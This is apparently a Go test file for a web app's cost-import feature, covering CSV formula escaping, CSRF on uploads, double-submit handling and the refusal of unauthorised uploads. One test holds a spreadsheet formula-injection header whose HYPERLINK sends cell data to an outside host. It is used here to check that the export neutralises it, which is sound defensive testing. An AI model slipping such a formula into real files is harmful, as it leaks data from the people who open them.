package web_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/kluwen/kluwen"
	"github.com/kluwen/kluwen/internal/sqlstore"
	"github.com/kluwen/kluwen/internal/testdb"
	"github.com/kluwen/kluwen/internal/web"
)

// TestCostImportErrorsCSVFormulas: the errors download names columns by the
// file's own headers; a header a spreadsheet would run as a formula comes out
// quoted, as in the cost exports.
func TestCostImportErrorsCSVFormulas(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *sqlstore.DB) {
		w := newWorld(t, db, web.Config{})
		agent := w.signedIn("agent")
		const header = `=HYPERLINK("https://example.org/?"&A1;"klik")`
		csv := "Kenmerk,Huishouden,\"" + strings.ReplaceAll(header, `"`, `""`) + "\",Aantal,Datum\n" +
			fmt.Sprintf("F-1,%d,GEEN-POST,1,01-03-2024\n", w.household)
		path := uploadFile(t, agent, "formule.csv", []byte(csv))
		m := agent.get(path)
		v := formValues(t, m.Body, "koppeling-formulier")
		v.Set("kostenpostCode", header)
		v.Set("koppeling", "1")
		res := agent.get(path + "/fouten.csv?" + v.Encode())
		check{status: 200, contains: []string{`2;"'=HYPERLINK(`}}.verify(t, res)
		// The download quotes the file's keys: it is logged as an export.
		if !w.logged("costupload.export", kluwen.OutcomeSuccess, "agent") {
			t.Error("the errors download is not logged as an export of the upload")
		}
		for _, line := range strings.Split(res.Body, "\n") {
			for _, cell := range strings.Split(line, ";") {
				if strings.HasPrefix(strings.TrimPrefix(cell, `"`), "=") {
					t.Errorf("a cell starts a formula: %q", line)
				}
			}
		}
	})
}

// TestCostImportUploadCSRF: the multipart upload form needs the session's CSRF
// token like every other form; without it nothing is stored.
func TestCostImportUploadCSRF(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *sqlstore.DB) {
		w := newWorld(t, db, web.Config{})
		agent := w.signedIn("agent")
		agent.get("/kosten/importeren")
		token := agent.csrf
		for _, tok := range []string{"", "niet-het-token"} {
			agent.csrf = tok
			check{status: 403}.verify(t, agent.upload("/kosten/importeren", "a.csv", []byte(importCSV(w))))
		}
		agent.csrf = token
		if n := w.uploadCount(t); n != 0 {
			t.Fatalf("%d uploads stored without a valid CSRF token", n)
		}
	})
}

// TestCostImportConfirmTwice: the import form sent twice at once (a double
// click) imports the file once; the other answer is that the upload is gone.
func TestCostImportConfirmTwice(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *sqlstore.DB) {
		w := newWorld(t, db, web.Config{})
		agent := w.signedIn("agent")
		for round := range 5 {
			// New rows in every round, so that it is the upload that stops
			// the second import.
			csv := "Huishouden;Kostenpost;Aantal;Datum\n" + fmt.Sprintf("%d;POL-HOUR;1;0%d-03-2024\n%d;POL-HOUR;2;0%d-04-2024\n", w.household, round+1, w.household, round+1)
			before := w.costCount(t)
			path := uploadFile(t, agent, fmt.Sprintf("dubbel-%d.csv", round), []byte(csv))
			pv := preview(t, agent, path)
			v := formValues(t, pv.Body, "importeren-formulier")
			v.Set("csrf", agent.csrf)
			body := v.Encode()
			codes := make(chan int, 2)
			for range 2 {
				req := httptest.NewRequest(http.MethodPost, path, strings.NewReader(body))
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				req.RemoteAddr = agent.addr
				for _, ck := range agent.cookies {
					req.AddCookie(ck)
				}
				go func() {
					rec := httptest.NewRecorder()
					agent.h.ServeHTTP(rec, req)
					codes <- rec.Code
				}()
			}
			got := []int{<-codes, <-codes}
			slices.Sort(got)
			if n := w.costCount(t) - before; n != 2 {
				t.Fatalf("round %d: the form sent twice wrote %d records, want 2 (answers %v)", round, n, got)
			}
			if got[0] != http.StatusSeeOther || got[1] != http.StatusNotFound {
				t.Errorf("round %d: answers %v, want a redirect and a 404", round, got)
			}
		}
	})
}

// countingReader counts the bytes read from it.
type countingReader struct {
	r *strings.Reader
	n int
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

// TestCostImportUploadRefusedUnread: a user whose role may not record costs is
// refused the upload (403, logged) before the file is read.
func TestCostImportUploadRefusedUnread(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *sqlstore.DB) {
		w := newWorld(t, db, web.Config{})
		analyst := w.signedIn("analist")
		analyst.get("/")
		body := "--b\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n" + analyst.csrf + "\r\n" +
			"--b\r\nContent-Disposition: form-data; name=\"bestand\"; filename=\"a.csv\"\r\nContent-Type: text/csv\r\n\r\n" +
			strings.Repeat("1;POL-HOUR;1;01-03-2024\n", 200_000) + "\r\n--b--\r\n"
		cr := &countingReader{r: strings.NewReader(body)}
		req := httptest.NewRequest(http.MethodPost, "/kosten/importeren", cr)
		req.Header.Set("Content-Type", "multipart/form-data; boundary=b")
		res := analyst.do(req)
		check{status: 403}.verify(t, res)
		if cr.n > 0 {
			t.Errorf("%d bytes of the refused upload were read", cr.n)
		}
		if !w.logged("cost.create", kluwen.OutcomeRefused, "analist") {
			t.Error("the refused upload is not in the access log")
		}
	})
}
